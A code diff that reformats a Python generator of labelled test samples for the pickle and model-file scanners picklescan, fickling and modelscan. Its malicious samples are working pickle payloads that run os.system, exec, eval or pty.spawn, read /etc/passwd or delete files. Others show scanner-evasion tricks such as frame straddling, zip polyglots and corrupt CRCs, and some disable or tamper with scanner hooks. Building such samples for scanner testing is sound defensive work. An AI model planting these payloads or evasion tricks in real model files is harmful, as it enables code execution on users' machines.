@@ -213,12 +213,27 @@ def _samples() -> list[Sample]:
 
     # --- picklescan: reduce payloads of every family, at several protocols ---------------
     for protocol in (0, 3, 4):
-        add(f"ps_eval_v{protocol}.pkl", "malicious", "picklescan", "builtins.eval",
-            lambda p=protocol: call("builtins" if p >= 3 else "__builtin__", "eval", "print(456)", protocol=p))
-        add(f"ps_os_system_v{protocol}.pkl", "malicious", "picklescan", "os.system",
-            lambda p=protocol: call("posix", "system", _SHELL, protocol=p))
-        add(f"ps_benign_list_v{protocol}.pkl", "benign", "picklescan", "plain list",
-            lambda p=protocol: pickle.dumps(["a", "b", "c"], protocol=p))
+        add(
+            f"ps_eval_v{protocol}.pkl",
+            "malicious",
+            "picklescan",
+            "builtins.eval",
+            lambda p=protocol: call("builtins" if p >= 3 else "__builtin__", "eval", "print(456)", protocol=p),
+        )
+        add(
+            f"ps_os_system_v{protocol}.pkl",
+            "malicious",
+            "picklescan",
+            "os.system",
+            lambda p=protocol: call("posix", "system", _SHELL, protocol=p),
+        )
+        add(
+            f"ps_benign_list_v{protocol}.pkl",
+            "benign",
+            "picklescan",
+            "plain list",
+            lambda p=protocol: pickle.dumps(["a", "b", "c"], protocol=p),
+        )
     families = [
         ("httplib", "HTTPSConnection", ("example.invalid",), 0, "network client (py2 name)"),
         ("http.client", "HTTPSConnection", ("example.invalid",), 4, "network client"),
@@ -239,8 +254,13 @@ def _samples() -> list[Sample]:
         ("numpy.testing._private.utils", "runstring", (_PAYLOAD, {}), 4, "code runner"),
         ("torch.utils.bottleneck.__main__", "run_cprofile", (_PAYLOAD, {}), 4, "code runner"),
         ("torch._dynamo.guards", "GuardBuilder.get", ({}, _PAYLOAD), 4, "torch eval helper"),
-        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, _PAYLOAD, []), 4,
-         "torch eval helper"),
+        (
+            "torch.fx.experimental.symbolic_shapes",
+            "ShapeEnv.evaluate_guards_expression",
+            ({}, _PAYLOAD, []),
+            4,
+            "torch eval helper",
+        ),
         ("torch.utils.collect_env", "run", (_SHELL,), 4, "process"),
         ("torch.utils.collect_env", "run_and_read_all", (None, _SHELL), 4, "process"),
         ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b""), 4, "nested pickle"),
@@ -264,8 +284,7 @@ def _samples() -> list[Sample]:
         ("code", "InteractiveInterpreter.runcode", ({}, _PAYLOAD), 4, "code runner"),
         ("doctest", "debug_script", (_PAYLOAD, True), 4, "code runner"),
         ("ensurepip", "_run_pip", ([_PAYLOAD],), 4, "code runner"),
-        ("asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "id", True, None, None, None, 0), 4,
-         "process"),
+        ("asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "id", True, None, None, None, 0), 4, "process"),
         ("distutils.file_util", "write_file", ("pwned.env", ["x"]), 4, "file write"),
         ("ctypes", "CDLL", (None,), 4, "native library"),
         ("pty", "spawn", (["/bin/sh", "-c", "id"],), 4, "process"),
@@ -284,65 +303,201 @@ def _samples() -> list[Sample]:
         ("webbrowser", "open", ("https://example.invalid",), 4, "process"),
     ]
     for module, name, args, protocol, attack in families:
-        add(f"ps_{module}.{name}.pkl".replace("/", "_"), "malicious", "picklescan", attack,
-            lambda m=module, n=name, a=args, p=protocol: call(m, n, *a, protocol=p))
-    add("ps_bdb_run_v2.pkl", "malicious", "picklescan", "debugger runs code",
-        lambda: pickle_of(Call(G("bdb", "Bdb.run"), (Call(G("bdb", "Bdb")), _PAYLOAD)), 2))
-    add("ps_partial_torch_load.pkl", "malicious", "picklescan", "partial(torch.load)",
-        lambda: pickle_of(Call(Call(G("functools", "partial"), (G("torch", "load"), "other.bin")), ()), 4))
-    add("ps_sour_pickle.pkl", "malicious", "picklescan", "globals/compile/eval chain (protocol 0)",
-        lambda: b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
-        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0g102\n.")
-    add("ps_inst_exec.pkl", "malicious", "picklescan", "INST opcode",
-        lambda: pickle_of(Call(G("__builtin__", "exec"), ("print(1)",), how="inst"), 0))
-    add("ps_memo_names.pkl", "malicious", "picklescan", "STACK_GLOBAL names from the memo (text opcodes)",
-        lambda: b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0g2\ng3\n\x93(Vid\ntR.")
-    add("ps_memo_names_junk.pkl", "malicious", "picklescan", "payload then bytes after STOP",
-        lambda: b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vid\ntR.\n\n\t\t")
-    add("ps_string_stack_global.pkl", "malicious", "picklescan", "STACK_GLOBAL names from STRING opcodes",
-        lambda: b"S'os'\nS'system'\n\x93S'ls'\n\x85R.")
-    add("ps_keyerror.pkl", "malicious", "picklescan", "payload, then a memo slot never written",
-        lambda: b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.")
-    add("ps_type_confusion.pkl", "malicious", "picklescan", "payload, then STACK_GLOBAL of an int",
-        lambda: b"\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.")
-    add("ps_broken_exec.pkl", "broken", "picklescan", "payload cut before STOP",
-        lambda: b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tR")
-    add("ps_attrgetter_import.pkl", "malicious", "picklescan", "operator.attrgetter + __import__",
-        lambda: pickle_of(Call(Call(Call(G("operator", "attrgetter"), ("system",)),
-                                    (Call(G("builtins", "__import__"), ("os",)),)), ("id",)), 4))
-    add("ps_methodcaller_locate.pkl", "malicious", "picklescan", "operator.methodcaller + pydoc.locate",
-        lambda: pickle_of(Call(Call(G("operator", "methodcaller"), ("system", "id")),
-                               (Call(G("pydoc", "locate"), ("os",)),)), 4))
-    add("ps_importlib.pkl", "malicious", "picklescan", "importlib.import_module",
-        lambda: call("importlib", "import_module", "os"))
-    add("ps_marshal_code.pkl", "malicious", "picklescan", "marshal + types.FunctionType",
-        lambda: pickle_of(Call(Call(G("types", "FunctionType"), (Call(G("marshal", "loads"), (b"\xe3",)), {})), ())))
-    add("ps_types_codetype.pkl", "malicious", "picklescan", "types.CodeType",
-        lambda: call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b""))
-    add("ps_cloudpickle_code.pkl", "malicious", "picklescan", "cloudpickle function rebuild",
-        lambda: call("cloudpickle.cloudpickle", "_make_function", None, {}, None, None, None))
-    add("ps_second_pickle.pkl", "malicious", "picklescan", "benign pickle, then a malicious one",
-        lambda: pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", "https://example.invalid"))
-    add("ps_torch_zip.pt", "malicious", "picklescan", "torch zip whose data.pkl calls eval",
-        lambda: _torch_zip(call("builtins", "eval", "print(456)")))
-    add("ps_zip_root_data_pkl.zip", "malicious", "picklescan", "zip with data.pkl at its root",
-        lambda: _zip({"data.pkl": call("builtins", "eval", "print(456)")}))
-    add("ps_zip_wrong_ext.zip", "malicious", "picklescan", "zip member with another suffix",
-        lambda: _zip({"archive/data.txt": call("builtins", "eval", "print(456)")}))
-    add("ps_zip_crc.pt", "malicious", "picklescan", "torch zip with a corrupt central-directory CRC",
-        lambda: _corrupt_cd_crc(_torch_zip(call("builtins", "eval", "print(456)"))))
-    add("ps_zip_cd_name.pt", "malicious", "picklescan", "central directory names another member",
-        lambda: _torch_zip(call("builtins", "eval", "print(456)")).replace(b"archive/data.pkl", b"archive/datap.kl", 1))
-    add("ps_legacy_magic_bypass.pt", "malicious", "picklescan", "legacy file whose magic-number pickle runs code",
-        lambda: _legacy(call("os", "system", _SHELL, protocol=2)))
-    add("ps_sys_modules.pkl", "malicious", "picklescan", "overriding sys.modules",
-        lambda: pickle_of(Call(G("builtins", "dict.__setitem__"), (G("sys", "modules"), "torch", G("os", "system")))))
-    add("ps_dns_exfiltration.npy", "malicious", "picklescan", "object .npy whose data pickle opens a socket",
-        lambda: _npy(call("ssl", "get_server_certificate", ("x.invalid", 443), protocol=3)))
-    add("ps_int_array.npy", "benign", "picklescan", "numeric .npy",
-        lambda: _npy(struct.pack("<2q", 1, 2), "<i8", 2))
-    add("ps_not_a_pickle.bin", "broken", "picklescan", "GLOBAL with undecodable bytes",
-        lambda: b"cmod\n\xf8\n")
+        add(
+            f"ps_{module}.{name}.pkl".replace("/", "_"),
+            "malicious",
+            "picklescan",
+            attack,
+            lambda m=module, n=name, a=args, p=protocol: call(m, n, *a, protocol=p),
+        )
+    add(
+        "ps_bdb_run_v2.pkl",
+        "malicious",
+        "picklescan",
+        "debugger runs code",
+        lambda: pickle_of(Call(G("bdb", "Bdb.run"), (Call(G("bdb", "Bdb")), _PAYLOAD)), 2),
+    )
+    add(
+        "ps_partial_torch_load.pkl",
+        "malicious",
+        "picklescan",
+        "partial(torch.load)",
+        lambda: pickle_of(Call(Call(G("functools", "partial"), (G("torch", "load"), "other.bin")), ()), 4),
+    )
+    add(
+        "ps_sour_pickle.pkl",
+        "malicious",
+        "picklescan",
+        "globals/compile/eval chain (protocol 0)",
+        lambda: (
+            b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
+            b"c__builtin__\neval\n(g101\ng100\ntRp102\n0g102\n."
+        ),
+    )
+    add(
+        "ps_inst_exec.pkl",
+        "malicious",
+        "picklescan",
+        "INST opcode",
+        lambda: pickle_of(Call(G("__builtin__", "exec"), ("print(1)",), how="inst"), 0),
+    )
+    add(
+        "ps_memo_names.pkl",
+        "malicious",
+        "picklescan",
+        "STACK_GLOBAL names from the memo (text opcodes)",
+        lambda: b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0g2\ng3\n\x93(Vid\ntR.",
+    )
+    add(
+        "ps_memo_names_junk.pkl",
+        "malicious",
+        "picklescan",
+        "payload then bytes after STOP",
+        lambda: b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vid\ntR.\n\n\t\t",
+    )
+    add(
+        "ps_string_stack_global.pkl",
+        "malicious",
+        "picklescan",
+        "STACK_GLOBAL names from STRING opcodes",
+        lambda: b"S'os'\nS'system'\n\x93S'ls'\n\x85R.",
+    )
+    add(
+        "ps_keyerror.pkl",
+        "malicious",
+        "picklescan",
+        "payload, then a memo slot never written",
+        lambda: b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.",
+    )
+    add(
+        "ps_type_confusion.pkl",
+        "malicious",
+        "picklescan",
+        "payload, then STACK_GLOBAL of an int",
+        lambda: b"\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.",
+    )
+    add(
+        "ps_broken_exec.pkl",
+        "broken",
+        "picklescan",
+        "payload cut before STOP",
+        lambda: b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tR",
+    )
+    add(
+        "ps_attrgetter_import.pkl",
+        "malicious",
+        "picklescan",
+        "operator.attrgetter + __import__",
+        lambda: pickle_of(
+            Call(
+                Call(Call(G("operator", "attrgetter"), ("system",)), (Call(G("builtins", "__import__"), ("os",)),)),
+                ("id",),
+            ),
+            4,
+        ),
+    )
+    add(
+        "ps_methodcaller_locate.pkl",
+        "malicious",
+        "picklescan",
+        "operator.methodcaller + pydoc.locate",
+        lambda: pickle_of(
+            Call(Call(G("operator", "methodcaller"), ("system", "id")), (Call(G("pydoc", "locate"), ("os",)),)), 4
+        ),
+    )
+    add(
+        "ps_importlib.pkl",
+        "malicious",
+        "picklescan",
+        "importlib.import_module",
+        lambda: call("importlib", "import_module", "os"),
+    )
+    add(
+        "ps_marshal_code.pkl",
+        "malicious",
+        "picklescan",
+        "marshal + types.FunctionType",
+        lambda: pickle_of(Call(Call(G("types", "FunctionType"), (Call(G("marshal", "loads"), (b"\xe3",)), {})), ())),
+    )
+    add(
+        "ps_types_codetype.pkl",
+        "malicious",
+        "picklescan",
+        "types.CodeType",
+        lambda: call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b""),
+    )
+    add(
+        "ps_cloudpickle_code.pkl",
+        "malicious",
+        "picklescan",
+        "cloudpickle function rebuild",
+        lambda: call("cloudpickle.cloudpickle", "_make_function", None, {}, None, None, None),
+    )
+    add(
+        "ps_second_pickle.pkl",
+        "malicious",
+        "picklescan",
+        "benign pickle, then a malicious one",
+        lambda: pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", "https://example.invalid"),
+    )
+    add(
+        "ps_torch_zip.pt",
+        "malicious",
+        "picklescan",
+        "torch zip whose data.pkl calls eval",
+        lambda: _torch_zip(call("builtins", "eval", "print(456)")),
+    )
+    add(
+        "ps_zip_root_data_pkl.zip",
+        "malicious",
+        "picklescan",
+        "zip with data.pkl at its root",
+        lambda: _zip({"data.pkl": call("builtins", "eval", "print(456)")}),
+    )
+    add(
+        "ps_zip_wrong_ext.zip",
+        "malicious",
+        "picklescan",
+        "zip member with another suffix",
+        lambda: _zip({"archive/data.txt": call("builtins", "eval", "print(456)")}),
+    )
+    add(
+        "ps_zip_crc.pt",
+        "malicious",
+        "picklescan",
+        "torch zip with a corrupt central-directory CRC",
+        lambda: _corrupt_cd_crc(_torch_zip(call("builtins", "eval", "print(456)"))),
+    )
+    add(
+        "ps_zip_cd_name.pt",
+        "malicious",
+        "picklescan",
+        "central directory names another member",
+        lambda: _torch_zip(call("builtins", "eval", "print(456)")).replace(b"archive/data.pkl", b"archive/datap.kl", 1),
+    )
+    add(
+        "ps_legacy_magic_bypass.pt",
+        "malicious",
+        "picklescan",
+        "legacy file whose magic-number pickle runs code",
+        lambda: _legacy(call("os", "system", _SHELL, protocol=2)),
+    )
+    add(
+        "ps_sys_modules.pkl",
+        "malicious",
+        "picklescan",
+        "overriding sys.modules",
+        lambda: pickle_of(Call(G("builtins", "dict.__setitem__"), (G("sys", "modules"), "torch", G("os", "system")))),
+    )
+    add(
+        "ps_dns_exfiltration.npy",
+        "malicious",
+        "picklescan",
+        "object .npy whose data pickle opens a socket",
+        lambda: _npy(call("ssl", "get_server_certificate", ("x.invalid", 443), protocol=3)),
+    )
+    add("ps_int_array.npy", "benign", "picklescan", "numeric .npy", lambda: _npy(struct.pack("<2q", 1, 2), "<i8", 2))
+    add("ps_not_a_pickle.bin", "broken", "picklescan", "GLOBAL with undecodable bytes", lambda: b"cmod\n\xf8\n")
 
     # --- fickling: bypasses, expansions, scanner deactivation, polyglots -------------------
     for protocol in (0, 1, 2, 3, 4, 5):
@@ -359,87 +514,261 @@ def _samples() -> list[Sample]:
             ("pydoc", "locate", ("os.system",)),
             ("sys", "exit", (0,)),
         ):
-            add(f"fk_{module}.{name}_v{protocol}.pkl", "malicious", "fickling", f"{module}.{name}",
-                lambda m=module, n=name, a=args, p=protocol: call(m, n, *a, protocol=p))
-    add("fk_pty_obj.pkl", "malicious", "fickling", "OBJ opcode",
-        lambda: pickle_of(Call(G("pty", "spawn"), ("id",), how="obj"), 1))
-    add("fk_pty_build.pkl", "malicious", "fickling", "payload then BUILD",
-        lambda: pickle_of(Build(Call(G("pty", "spawn"), ("id",)), "gottem"), 4))
-    add("fk_ctypes_getattr.pkl", "malicious", "fickling", "getattr(ctypes.CDLL(...), 'system')",
-        lambda: pickle_of(Call(Call(G("builtins", "getattr"), (Call(G("ctypes", "CDLL"), ("libc.so.6",)), "system")),
-                               (b"id",)), 5))
-    add("fk_code_console.pkl", "malicious", "fickling", "code.InteractiveConsole",
-        lambda: call("code", "InteractiveConsole"))
-    add("fk_ctypes_util.pkl", "malicious", "fickling", "submodule of a code-running package",
-        lambda: call("ctypes.util", "find_library", "c"))
-    add("fk_importlib_util.pkl", "malicious", "fickling", "submodule of a code-running package",
-        lambda: call("importlib.util", "find_spec", "os"))
-    add("fk_sys_modules_ref.pkl", "malicious", "fickling", "reference to sys.modules",
-        lambda: pickle_of(G("sys", "modules")))
-    add("fk_types_functiontype_ref.pkl", "malicious", "fickling", "reference to types.FunctionType",
-        lambda: pickle_of(G("types", "FunctionType")))
+            add(
+                f"fk_{module}.{name}_v{protocol}.pkl",
+                "malicious",
+                "fickling",
+                f"{module}.{name}",
+                lambda m=module, n=name, a=args, p=protocol: call(m, n, *a, protocol=p),
+            )
+    add(
+        "fk_pty_obj.pkl",
+        "malicious",
+        "fickling",
+        "OBJ opcode",
+        lambda: pickle_of(Call(G("pty", "spawn"), ("id",), how="obj"), 1),
+    )
+    add(
+        "fk_pty_build.pkl",
+        "malicious",
+        "fickling",
+        "payload then BUILD",
+        lambda: pickle_of(Build(Call(G("pty", "spawn"), ("id",)), "gottem"), 4),
+    )
+    add(
+        "fk_ctypes_getattr.pkl",
+        "malicious",
+        "fickling",
+        "getattr(ctypes.CDLL(...), 'system')",
+        lambda: pickle_of(
+            Call(Call(G("builtins", "getattr"), (Call(G("ctypes", "CDLL"), ("libc.so.6",)), "system")), (b"id",)), 5
+        ),
+    )
+    add(
+        "fk_code_console.pkl",
+        "malicious",
+        "fickling",
+        "code.InteractiveConsole",
+        lambda: call("code", "InteractiveConsole"),
+    )
+    add(
+        "fk_ctypes_util.pkl",
+        "malicious",
+        "fickling",
+        "submodule of a code-running package",
+        lambda: call("ctypes.util", "find_library", "c"),
+    )
+    add(
+        "fk_importlib_util.pkl",
+        "malicious",
+        "fickling",
+        "submodule of a code-running package",
+        lambda: call("importlib.util", "find_spec", "os"),
+    )
+    add(
+        "fk_sys_modules_ref.pkl",
+        "malicious",
+        "fickling",
+        "reference to sys.modules",
+        lambda: pickle_of(G("sys", "modules")),
+    )
+    add(
+        "fk_types_functiontype_ref.pkl",
+        "malicious",
+        "fickling",
+        "reference to types.FunctionType",
+        lambda: pickle_of(G("types", "FunctionType")),
+    )
     for hook in ("remove_hook", "deactivate_safe_ml_environment"):
-        add(f"fk_fickling_hook_{hook}.pkl", "malicious", "fickling", "disables a scanner's hook",
-            lambda h=hook: call("fickling.hook", h))
-    add("fk_fickling_hook_global_v0.pkl", "malicious", "fickling", "disables a scanner's hook",
-        lambda: call("fickling.hook", "remove_hook", protocol=0))
-    add("fk_picklescan_hook.pkl", "malicious", "fickling", "tampers with another scanner",
-        lambda: call("picklescan.scanner", "scan_pickle_bytes"))
-    add("fk_modelscan_hook.pkl", "malicious", "fickling", "tampers with another scanner",
-        lambda: call("modelscan.settings", "DEFAULT_SETTINGS.clear"))
-    add("fk_ast_parse.pkl", "malicious", "fickling", "ast.parse (compiles code)",
-        lambda: call("ast", "parse", _PAYLOAD))
-    add("fk_interpreters.pkl", "malicious", "fickling", "sub-interpreter creation",
-        lambda: call("_interpreters", "create"))
-    add("fk_xxsubinterpreters.pkl", "malicious", "fickling", "sub-interpreter creation",
-        lambda: call("_xxsubinterpreters", "run_string", 0, _PAYLOAD))
+        add(
+            f"fk_fickling_hook_{hook}.pkl",
+            "malicious",
+            "fickling",
+            "disables a scanner's hook",
+            lambda h=hook: call("fickling.hook", h),
+        )
+    add(
+        "fk_fickling_hook_global_v0.pkl",
+        "malicious",
+        "fickling",
+        "disables a scanner's hook",
+        lambda: call("fickling.hook", "remove_hook", protocol=0),
+    )
+    add(
+        "fk_picklescan_hook.pkl",
+        "malicious",
+        "fickling",
+        "tampers with another scanner",
+        lambda: call("picklescan.scanner", "scan_pickle_bytes"),
+    )
+    add(
+        "fk_modelscan_hook.pkl",
+        "malicious",
+        "fickling",
+        "tampers with another scanner",
+        lambda: call("modelscan.settings", "DEFAULT_SETTINGS.clear"),
+    )
+    add(
+        "fk_ast_parse.pkl", "malicious", "fickling", "ast.parse (compiles code)", lambda: call("ast", "parse", _PAYLOAD)
+    )
+    add(
+        "fk_interpreters.pkl",
+        "malicious",
+        "fickling",
+        "sub-interpreter creation",
+        lambda: call("_interpreters", "create"),
+    )
+    add(
+        "fk_xxsubinterpreters.pkl",
+        "malicious",
+        "fickling",
+        "sub-interpreter creation",
+        lambda: call("_xxsubinterpreters", "run_string", 0, _PAYLOAD),
+    )
     add("fk_shutil_rmtree.pkl", "malicious", "fickling", "file removal", lambda: call("shutil", "rmtree", "/tmp/x"))
     add("fk_builtins_open.pkl", "malicious", "fickling", "file open", lambda: call("builtins", "open", "/etc/passwd"))
     add("fk_signal.pkl", "malicious", "modelscan", "signal", lambda: call("_signal", "raise_signal", 15, protocol=0))
-    add("fk_mailcap.pkl", "malicious", "modelscan", "mailcap runs test commands",
-        lambda: call("mailcap", "findmatch", {"text/plain": [{"view": "cat %s", "test": "true"}]}, "text/plain"))
-    add("fk_billion_laughs.pkl", "malicious", "fickling", "memo/DUP expansion beyond any budget",
-        lambda: _billion_laughs())
-    add("fk_frame_straddle.pkl", "malicious", "fickling", "opcode straddles a FRAME boundary",
-        lambda: straddle_pickle())
-    add("fk_frame_straddle_binary.pkl", "malicious", "fickling", "argument straddles a FRAME boundary",
-        lambda: straddle_binary_pickle())
-    add("fk_frame_too_long.pkl", "malicious", "fickling", "FRAME longer than the bytes it frames",
-        lambda: pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", 4096) + call("os", "system", "id")[11:])
-    add("fk_frame_nested.pkl", "malicious", "fickling", "FRAME inside an unfinished frame",
-        lambda: nested_frame_pickle())
-    add("fk_polyglot_zip_pickle.pt", "malicious", "fickling", "pickle that is also a zip (polyglot)",
-        lambda: call("os", "system", "id") + _torch_zip(pickle.dumps({"w": 1}, protocol=2)))
-    add("fk_benign_ordereddict.pkl", "benign", "fickling", "collections.OrderedDict",
-        lambda: pickle_of(Call(G("collections", "OrderedDict"), ()), 4))
-    add("fk_benign_namespace.pkl", "benign", "fickling", "argparse.Namespace (foreign class)",
-        lambda: pickle.dumps({"args": _namespace_obj()}, protocol=4))
-    add("fk_benign_nested.pkl", "benign", "fickling", "nested plain data, every protocol 5 feature",
-        lambda: pickle.dumps({"a": [1, 2.5, None, True], "b": (b"x" * 300, "y" * 300), "c": {1, 2}}, protocol=5))
-    add("fk_benign_shared_memo.pkl", "benign", "fickling", "shared objects (memo references)",
-        lambda: pickle.dumps(_shared_list(), protocol=4))
-    add("fk_benign_recursive.pkl", "benign", "fickling", "a list that contains itself",
-        lambda: pickle.dumps(_recursive(), protocol=4))
-    add("fk_benign_large_bytes.pkl", "benign", "fickling", "bytes written outside frames (>= 64 KiB)",
-        lambda: pickle.dumps({"blob": b"\x00" * 70000, "after": [1, 2, 3]}, protocol=4))
+    add(
+        "fk_mailcap.pkl",
+        "malicious",
+        "modelscan",
+        "mailcap runs test commands",
+        lambda: call("mailcap", "findmatch", {"text/plain": [{"view": "cat %s", "test": "true"}]}, "text/plain"),
+    )
+    add(
+        "fk_billion_laughs.pkl",
+        "malicious",
+        "fickling",
+        "memo/DUP expansion beyond any budget",
+        lambda: _billion_laughs(),
+    )
+    add(
+        "fk_frame_straddle.pkl", "malicious", "fickling", "opcode straddles a FRAME boundary", lambda: straddle_pickle()
+    )
+    add(
+        "fk_frame_straddle_binary.pkl",
+        "malicious",
+        "fickling",
+        "argument straddles a FRAME boundary",
+        lambda: straddle_binary_pickle(),
+    )
+    add(
+        "fk_frame_too_long.pkl",
+        "malicious",
+        "fickling",
+        "FRAME longer than the bytes it frames",
+        lambda: pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", 4096) + call("os", "system", "id")[11:],
+    )
+    add(
+        "fk_frame_nested.pkl",
+        "malicious",
+        "fickling",
+        "FRAME inside an unfinished frame",
+        lambda: nested_frame_pickle(),
+    )
+    add(
+        "fk_polyglot_zip_pickle.pt",
+        "malicious",
+        "fickling",
+        "pickle that is also a zip (polyglot)",
+        lambda: call("os", "system", "id") + _torch_zip(pickle.dumps({"w": 1}, protocol=2)),
+    )
+    add(
+        "fk_benign_ordereddict.pkl",
+        "benign",
+        "fickling",
+        "collections.OrderedDict",
+        lambda: pickle_of(Call(G("collections", "OrderedDict"), ()), 4),
+    )
+    add(
+        "fk_benign_namespace.pkl",
+        "benign",
+        "fickling",
+        "argparse.Namespace (foreign class)",
+        lambda: pickle.dumps({"args": _namespace_obj()}, protocol=4),
+    )
+    add(
+        "fk_benign_nested.pkl",
+        "benign",
+        "fickling",
+        "nested plain data, every protocol 5 feature",
+        lambda: pickle.dumps({"a": [1, 2.5, None, True], "b": (b"x" * 300, "y" * 300), "c": {1, 2}}, protocol=5),
+    )
+    add(
+        "fk_benign_shared_memo.pkl",
+        "benign",
+        "fickling",
+        "shared objects (memo references)",
+        lambda: pickle.dumps(_shared_list(), protocol=4),
+    )
+    add(
+        "fk_benign_recursive.pkl",
+        "benign",
+        "fickling",
+        "a list that contains itself",
+        lambda: pickle.dumps(_recursive(), protocol=4),
+    )
+    add(
+        "fk_benign_large_bytes.pkl",
+        "benign",
+        "fickling",
+        "bytes written outside frames (>= 64 KiB)",
+        lambda: pickle.dumps({"blob": b"\x00" * 70000, "after": [1, 2, 3]}, protocol=4),
+    )
 
     # --- modelscan: payloads in model containers ---------------------------------------
     for protocol in (0, 1, 2, 3, 4):
-        add(f"ms_os_system_v{protocol}.pkl", "malicious", "modelscan", "os.system",
-            lambda p=protocol: call("os", "system", "echo pwned", protocol=p))
-        add(f"ms_exec_v{protocol}.pkl", "malicious", "modelscan", "builtins.exec",
-            lambda p=protocol: call("builtins", "exec", _PAYLOAD, protocol=p))
-    add("ms_webbrowser.pkl", "malicious", "modelscan", "webbrowser.open",
-        lambda: call("webbrowser", "open", "https://example.invalid"))
-    add("ms_unsafe_zip_pytorch.pt", "malicious", "modelscan", "torch zip whose data.pkl runs os.system",
-        lambda: _torch_zip(pickle_of(
-            {"weight": Call(G("collections", "OrderedDict"), ()), "x": Call(G("os", "system"), ("id",))}, 2)))
-    add("ms_dill.pkl", "malicious", "modelscan", "dill code rebuild",
-        lambda: call("dill._dill", "_create_function", None, {}, "f"))
-    add("ms_joblib.pkl", "malicious", "modelscan", "joblib.load of another file",
-        lambda: call("joblib", "load", "other.joblib"))
-    add("ms_numpy_object.npy", "malicious", "modelscan", "object .npy whose data pickle runs exec",
-        lambda: _npy(call("builtins", "exec", _PAYLOAD, protocol=3)))
+        add(
+            f"ms_os_system_v{protocol}.pkl",
+            "malicious",
+            "modelscan",
+            "os.system",
+            lambda p=protocol: call("os", "system", "echo pwned", protocol=p),
+        )
+        add(
+            f"ms_exec_v{protocol}.pkl",
+            "malicious",
+            "modelscan",
+            "builtins.exec",
+            lambda p=protocol: call("builtins", "exec", _PAYLOAD, protocol=p),
+        )
+    add(
+        "ms_webbrowser.pkl",
+        "malicious",
+        "modelscan",
+        "webbrowser.open",
+        lambda: call("webbrowser", "open", "https://example.invalid"),
+    )
+    add(
+        "ms_unsafe_zip_pytorch.pt",
+        "malicious",
+        "modelscan",
+        "torch zip whose data.pkl runs os.system",
+        lambda: _torch_zip(
+            pickle_of({"weight": Call(G("collections", "OrderedDict"), ()), "x": Call(G("os", "system"), ("id",))}, 2)
+        ),
+    )
+    add(
+        "ms_dill.pkl",
+        "malicious",
+        "modelscan",
+        "dill code rebuild",
+        lambda: call("dill._dill", "_create_function", None, {}, "f"),
+    )
+    add(
+        "ms_joblib.pkl",
+        "malicious",
+        "modelscan",
+        "joblib.load of another file",
+        lambda: call("joblib", "load", "other.joblib"),
+    )
+    add(
+        "ms_numpy_object.npy",
+        "malicious",
+        "modelscan",
+        "object .npy whose data pickle runs exec",
+        lambda: _npy(call("builtins", "exec", _PAYLOAD, protocol=3)),
+    )
     add("ms_password_zip.zip", "broken", "modelscan", "encrypted zip", lambda: _encrypted_zip())
     return s
 
